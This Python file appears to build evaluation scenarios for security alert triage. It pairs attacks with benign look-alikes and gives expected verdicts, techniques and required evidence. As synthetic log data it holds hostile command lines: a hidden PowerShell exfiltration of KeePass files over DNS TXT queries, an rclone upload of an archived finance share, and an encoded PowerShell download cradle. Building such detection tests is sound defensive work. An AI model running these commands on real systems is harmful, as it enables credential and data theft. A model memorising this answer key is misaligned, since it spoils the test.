"""Paired network and endpoint scenarios: scans, beacons, DNS, uploads, PowerShell."""

# ruff: noqa: E501  (scenario data: long literal strings read better whole)

from __future__ import annotations

import random
from datetime import timedelta
from typing import Any

from scripts.eval_pack.common import siem_rule
from scripts.eval_pack.org.people import AD, MAIL, public_ip
from scripts.eval_pack.org.synth_base import Ctx, fw, pair, proc, ticket, z
from scripts.eval_pack.org.write import Scenario

PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"


def port_scan(c: Ctx) -> list[Scenario]:
    p = c.person("ENG", offset=6)
    t = c.when(2 + c.k * 2, 15)
    alert = siem_rule(
        title="Internal port scan",
        severity="medium",
        when=z(t),
        product="Firewall detection rule",
        details={"source": {"ip": p.ip}, "distinct_destinations": 48},
    )
    targets = [h for h in c.org.hosts if h.role == "workstation"][:48]
    scan = [
        fw(
            t + timedelta(seconds=i),
            p.ip,
            h.ip,
            port,
            60,
            0,
            0.01,
            "incomplete",
            "deny" if port == 3389 else "allow",
            "office-internal",
        )
        for i, h in enumerate(targets)
        for port in (445, 3389)
    ]
    fs = c.org.servers["FS-01"]
    attack = {
        "title": "scan then SMB logon attempts",
        "verdicts": ["true_positive"],
        "rationale": f"{p.host} swept 445/3389 then tried SMB logons with several accounts against {fs.name}; no test is booked",
        "severity": ("medium", "high"),
        "techniques": ["T1046"],
        "techniques_accept": ["T1110.001", "T1021.002"],
        "must": [(p.host, "assets"), ("0xc000006a", "windows_security")],
        "inject": {
            "firewall": scan,
            "windows_security": [
                {
                    "event_time": str(t + timedelta(minutes=4, seconds=i))[:19],
                    "host": "FS-01",
                    "event_id": 4625,
                    "target_user": u.login,
                    "logon_type": 3,
                    "ip_address": p.ip,
                    "status": "0xc000006a",
                    "message": "An account failed to log on.",
                }
                for i, u in enumerate(c.org.people[:10])
            ],
        },
    }
    no = f"CHG-{4000 + c.k}"
    benign = {
        "title": "booked penetration test from an engineer's laptop",
        "verdicts": ["benign"],
        "rationale": f"approved change {no} books a network test from {p.host} at that time; only connection attempts, no logons",
        "severity": ("info", "low"),
        "must": [(no, "change_tickets"), (p.host, "assets")],
        "inject": {
            "firewall": scan,
            "change_tickets": [
                ticket(
                    t - timedelta(hours=1),
                    4,
                    no,
                    p.login,
                    c.org.in_dept("IT")[-1].login,
                    f"{p.host} ({p.ip})",
                    "Internal exposure test: SMB/RDP reachability sweep of office subnets",
                )
            ],
        },
    }
    return pair(f"net-port-scan-{c.k}", "network", alert, attack, benign)


def beacon(c: Ctx) -> list[Scenario]:
    p = c.person("FIN", offset=7)
    t = c.when(3 + c.k * 3, 10)
    dst = public_ip(c.rng)
    alert = siem_rule(
        title="Periodic outbound connections to a rare destination",
        severity="medium",
        when=z(t),
        host=p.host,
        product="Network analytics",
        details={"destination": {"ip": dst, "port": 443}, "period_seconds": 60},
    )
    rng = random.Random(c.k)
    flows = [
        fw(t + timedelta(seconds=60 * i + rng.randint(-3, 3)), p.ip, dst, 443, 420, 180, 0.4, "ssl")
        for i in range(90)
    ]
    image = f"C:\\Users\\{p.login}\\AppData\\Roaming\\Microsoft\\Crypto\\msedgeupd.exe"
    attack = {
        "title": "beacon from a user-writable binary",
        "verdicts": ["true_positive"],
        "rationale": f"the connections come from {image.rsplit(chr(92), 1)[-1]} in the user's AppData, started by rundll32 after an Excel download",
        "severity": ("high", "critical"),
        "techniques": ["T1071.001"],
        "techniques_accept": ["T1573.002", "T1204.002"],
        "must": [("msedgeupd.exe", "sysmon"), ("invoice_0316.xlsm", "sysmon")],
        "inject": {
            "firewall": flows,
            "sysmon": [
                proc(
                    t - timedelta(minutes=3),
                    p.host,
                    f"{AD}\\{p.login}",
                    "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
                    f'"EXCEL.EXE" C:\\Users\\{p.login}\\Downloads\\invoice_0316.xlsm',
                    "C:\\Windows\\explorer.exe",
                ),
                proc(
                    t - timedelta(minutes=2),
                    p.host,
                    f"{AD}\\{p.login}",
                    "C:\\Windows\\System32\\rundll32.exe",
                    f"rundll32.exe C:\\Users\\{p.login}\\AppData\\Local\\Temp\\x64.dll,Start",
                    "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
                ),
                proc(
                    t - timedelta(minutes=1),
                    p.host,
                    f"{AD}\\{p.login}",
                    image,
                    image,
                    "C:\\Windows\\System32\\rundll32.exe",
                ),
                proc(
                    t,
                    p.host,
                    f"{AD}\\{p.login}",
                    image,
                    None,
                    None,
                    3,
                    destination_ip=dst,
                    destination_port=443,
                ),
            ],
        },
    }
    agent = "C:\\Program Files\\Kofax\\Power PDF\\PowerPDFLicenseAgent.exe"
    benign = {
        "title": "licence heartbeat of installed software",
        "verdicts": ["benign"],
        "rationale": "the connections come from the signed PDF editor's licence agent (installed by the configuration manager), every minute while it runs",
        "severity": ("info", "low"),
        "must": [("PowerPDFLicenseAgent.exe", "sysmon"), ("CcmExec.exe", "sysmon")],
        "inject": {
            "firewall": flows,
            "sysmon": [
                proc(
                    t - timedelta(days=6),
                    p.host,
                    "NT AUTHORITY\\SYSTEM",
                    "C:\\Windows\\System32\\msiexec.exe",
                    "msiexec.exe /i PowerPDF-5.1.msi /qn",
                    "C:\\Windows\\CCM\\CcmExec.exe",
                ),
                proc(
                    t - timedelta(minutes=1),
                    p.host,
                    f"{AD}\\{p.login}",
                    agent,
                    f'"{agent}" --heartbeat 60',
                    "C:\\Program Files\\Kofax\\Power PDF\\PowerPDF.exe",
                ),
                proc(
                    t,
                    p.host,
                    f"{AD}\\{p.login}",
                    agent,
                    None,
                    None,
                    3,
                    destination_ip=dst,
                    destination_port=443,
                ),
            ],
        },
    }
    return pair(f"net-beacon-{c.k}", "network", alert, attack, benign)


def dns_txt(c: Ctx) -> list[Scenario]:
    p = c.person("ENG", offset=8)
    t = c.when(4 + c.k * 2, 11)
    alert = siem_rule(
        title="High volume of TXT queries from one host",
        severity="medium",
        when=z(t),
        host=p.host,
        product="DNS analytics",
        details={"qtype": "TXT", "queries": 400},
    )
    rng = random.Random(100 + c.k)
    dom = ["cdn-metrics.net", "sync-telemetry.org", "edge-stats.info"][c.k % 3]
    tunnel = [
        {
            "event_time": str(t + timedelta(seconds=i))[:19],
            "client_ip": p.ip,
            "query": f"{rng.getrandbits(120):030x}.{dom}",
            "qtype": "TXT",
            "answer": f"{rng.getrandbits(64):016x}",
            "rcode": "NOERROR",
        }
        for i in range(400)
    ]
    attack = {
        "title": "data encoded in DNS labels",
        "verdicts": ["true_positive"],
        "rationale": f"400 TXT queries with random 30-character labels under {dom}, sent by PowerShell; the labels carry data out",
        "severity": ("high", "critical"),
        "techniques": ["T1071.004"],
        "techniques_accept": ["T1048.003", "T1132.001"],
        "must": [(dom, "dns"), ("Resolve-DnsName", "sysmon")],
        "inject": {
            "dns": tunnel,
            "sysmon": [
                proc(
                    t,
                    p.host,
                    f"{AD}\\{p.login}",
                    PS,
                    f'powershell -w hidden -c "gc C:\\Users\\{p.login}\\Documents\\*.kdbx | % {{Resolve-DnsName -Type TXT $_.{dom}}}"',
                    "C:\\Windows\\explorer.exe",
                )
            ],
        },
    }
    partners = ["dhl.com", "maersk.com", "kuehne-nagel.com", "dbschenker.com"]
    checks = [
        {
            "event_time": str(t + timedelta(seconds=i))[:19],
            "client_ip": p.ip,
            "query": f"{['_dmarc', 'selector1._domainkey', 's1._domainkey', ''][i % 4]}.{partners[i % 4]}".lstrip(
                "."
            ),
            "qtype": "TXT",
            "answer": "v=DMARC1; p=reject" if i % 4 == 0 else "v=spf1 include:_spf.example ~all",
            "rcode": "NOERROR",
        }
        for i in range(400)
    ]
    no = f"CHG-{4100 + c.k}"
    benign = {
        "title": "mail deliverability check of partner domains",
        "verdicts": ["benign"],
        "rationale": f"the TXT queries are DMARC/SPF/DKIM lookups of freight partners by a script booked in {no}",
        "severity": ("info", "low"),
        "must": [(no, "change_tickets"), ("_dmarc.dhl.com", "dns")],
        "inject": {
            "dns": checks,
            "change_tickets": [
                ticket(
                    t - timedelta(hours=1),
                    3,
                    no,
                    p.login,
                    c.org.in_dept("IT")[-1].login,
                    p.host,
                    "Check partners' DMARC/SPF/DKIM records before the mail gateway switch",
                )
            ],
        },
    }
    return pair(f"net-dns-txt-{c.k}", "network", alert, attack, benign)


def upload(c: Ctx) -> list[Scenario]:
    p = c.person("FIN", offset=9)
    t = c.when(5 + c.k * 3, 19)
    dst = "66.203.125.14" if c.k % 2 else "31.216.145.5"
    alert = siem_rule(
        title="Unusually large upload to the internet",
        severity="medium",
        when=z(t),
        host=p.host,
        product="Firewall detection rule",
        details={"destination": {"ip": dst, "port": 443}, "bytes_out": 6_400_000_000},
    )
    flow = [fw(t, p.ip, dst, 443, 6_400_000_000, 9_000_000, 1800.0, "ssl")]
    attack = {
        "title": "finance share archived and uploaded with rclone",
        "verdicts": ["true_positive"],
        "rationale": f"{p.login} archived \\\\FS-01\\finance with 7-Zip after hours and rclone copied it to a personal cloud remote",
        "severity": ("high", "critical"),
        "techniques": ["T1567.002"],
        "techniques_accept": ["T1560.001", "T1039"],
        "must": [("rclone.exe", "sysmon"), ("fin_q1.7z", "sysmon")],
        "inject": {
            "firewall": flow,
            "sysmon": [
                proc(
                    t - timedelta(minutes=25),
                    p.host,
                    f"{AD}\\{p.login}",
                    "C:\\Program Files\\7-Zip\\7z.exe",
                    f"7z.exe a -pQ1secret C:\\Users\\{p.login}\\fin_q1.7z \\\\FS-01\\finance\\*",
                    "C:\\Windows\\System32\\cmd.exe",
                ),
                proc(
                    t - timedelta(seconds=5),
                    p.host,
                    f"{AD}\\{p.login}",
                    f"C:\\Users\\{p.login}\\Downloads\\rclone.exe",
                    f"rclone.exe copy C:\\Users\\{p.login}\\fin_q1.7z personal:backup --transfers 8",
                    "C:\\Windows\\System32\\cmd.exe",
                ),
            ],
        },
    }
    no = f"CHG-{4200 + c.k}"
    benign = {
        "title": "approved transfer of audit evidence",
        "verdicts": ["benign"],
        "rationale": f"the upload is the auditors' secure transfer client sending the year-end package, booked in {no}",
        "severity": ("info", "low"),
        "must": [(no, "change_tickets"), ("FTAClient.exe", "sysmon")],
        "inject": {
            "firewall": flow,
            "sysmon": [
                proc(
                    t - timedelta(seconds=5),
                    p.host,
                    f"{AD}\\{p.login}",
                    "C:\\Program Files\\Kiteworks\\FTAClient.exe",
                    '"FTAClient.exe" --send "D:\\Audit\\FY2025 evidence" --to auditors',
                    "C:\\Windows\\explorer.exe",
                )
            ],
            "change_tickets": [
                ticket(
                    t - timedelta(hours=2),
                    6,
                    no,
                    p.login,
                    c.org.in_dept("IT")[-1].login,
                    f"{p.host}",
                    "Send FY2025 audit evidence to external auditors via secure file transfer",
                )
            ],
        },
    }
    return pair(f"net-upload-{c.k}", "network", alert, attack, benign)


def encoded_ps(c: Ctx) -> list[Scenario]:
    p = c.person("LEG", offset=10)
    t = c.when(1 + c.k * 3, 9.5)
    alert = siem_rule(
        title="Encoded PowerShell command executed",
        severity="medium",
        when=z(t),
        host=p.host,
        product="Endpoint detection rule",
        details={"process": {"name": "powershell.exe"}},
    )
    c2 = public_ip(c.rng)
    attack = {
        "title": "Word macro launches encoded PowerShell",
        "verdicts": ["true_positive"],
        "rationale": f"WINWORD.EXE started powershell -enc, which fetched a payload from {c2}",
        "severity": ("high", "critical"),
        "techniques": ["T1059.001"],
        "techniques_accept": ["T1204.002", "T1566.001", "T1027"],
        "must": [("WINWORD.EXE", "sysmon"), (c2, "sysmon")],
        "inject": {
            "sysmon": [
                proc(
                    t,
                    p.host,
                    f"{AD}\\{p.login}",
                    PS,
                    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
                    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                ),
                proc(
                    t + timedelta(seconds=3),
                    p.host,
                    f"{AD}\\{p.login}",
                    PS,
                    None,
                    None,
                    3,
                    destination_ip=c2,
                    destination_port=80,
                ),
            ]
        },
    }
    benign = {
        "title": "configuration manager's encoded script",
        "verdicts": ["benign"],
        "rationale": "the configuration manager client ran it as SYSTEM, as it does daily on every workstation; no outbound connection",
        "severity": ("info", "low"),
        "must": [("CcmExec.exe", "sysmon"), ("NT AUTHORITY\\SYSTEM", "sysmon")],
        "inject": {
            "sysmon": [
                proc(
                    t,
                    p.host,
                    "NT AUTHORITY\\SYSTEM",
                    PS,
                    "powershell.exe -NoLogo -NonInteractive -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA==",
                    "C:\\Windows\\CCM\\CcmExec.exe",
                )
            ]
        },
    }
    return pair(f"ep-encoded-ps-{c.k}", "endpoint", alert, attack, benign)


TEMPLATES: list[Any] = [port_scan, beacon, dns_txt, upload, encoded_ps]
_ = MAIL
